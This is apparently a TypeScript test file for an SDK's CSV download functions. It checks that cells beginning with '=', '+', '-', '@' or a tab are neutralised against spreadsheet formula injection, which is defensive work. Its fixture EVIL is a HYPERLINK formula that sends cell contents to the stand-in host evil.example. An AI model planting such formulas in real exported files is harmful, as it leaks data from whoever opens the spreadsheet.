// Every CSV the SDK builds in the browser goes through the one writer (contract/csv.ts): a
// respondent's panel reference, open answer or a stim name that a spreadsheet would run as a
// formula arrives neutralised in each file (issue 36 item 6). The server's export is
// server/test/jobs/export-csv.test.ts.
import { describe, expect, it } from 'vitest';
import { demographicCsv } from './demographics/csv';
import type { Pie } from './demographics/pies';
import { rowsCsv } from './reports/downloads';
import { questionCsv } from './reports/questions';
import { objectsCsv as batchCsv } from './download/csv';

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
// Commas removed (D3-273), an apostrophe first, quoted for its quotes (RFC 4180).
const SAFE = '"\'=HYPERLINK(""http://evil.example/?d=""&A1""click"")"';

/** Every cell of every line of a comma-removed CSV (no quoting is ever needed there but for quotes). */
const cells = (csv: string) => csv.split('\r\n').filter(Boolean).flatMap((l) => l.split(','))
  .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
const noFormula = (csv: string) => cells(csv).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c));

describe('CSV downloads built by the SDK neutralise formulas', () => {
  it('demographics (D1-114)', () => {
    const pies: Pie[] = [{ group: 'gender_group' as Pie['group'], title: 'Gender', hasData: true, slices: [{ name: EVIL, y: 3 }, { name: '+cmd', y: 1 }] }];
    const csv = demographicCsv(pies)!;
    expect(noFormula(csv)).toEqual([]);
    expect(csv).toContain(SAFE);
    expect(csv.split('\r\n')).toContain("Gender,'+cmd,1");
  });

  it('report stim / participant / feature data', () => {
    const csv = rowsCsv([{ participant_reference: EVIL, dwell_time: -1.234, stim: { name: '@SUM(A1:A9)' } }])!;
    expect(noFormula(csv)).toEqual([]);
    expect(csv.split('\r\n')).toEqual(['participant_reference,dwell_time,stim.name', `${SAFE},-1.23,'@SUM(A1:A9)`]);
  });

  it('question participant answers (D3-262)', () => {
    const csv = questionCsv({
      answers: [], name: 'Recall?', short_name: 'Recall', question_id: 4,
      participant_answer_data: [{ participant_reference: '-2+3', answer_data: [{ text: EVIL }] }],
    })!;
    expect(noFormula(csv)).toEqual([]);
    expect(csv.split('\r\n')[1]).toBe(`'-2+3,Recall?,Recall,4,${SAFE}`);
  });

  it('batch participant / feature / stim data (D3-273)', () => {
    const csv = batchCsv([{ participant_reference: EVIL, stim_name: '\tTab', dwell_time: 1.5 }], ['participant_reference', 'stim_name', 'dwell_time']);
    expect(noFormula(csv)).toEqual([]);
    expect(csv).toBe(`participant_reference,stim_name,dwell_time\r\n${SAFE},'\tTab,1.50\r\n`);
  });
});
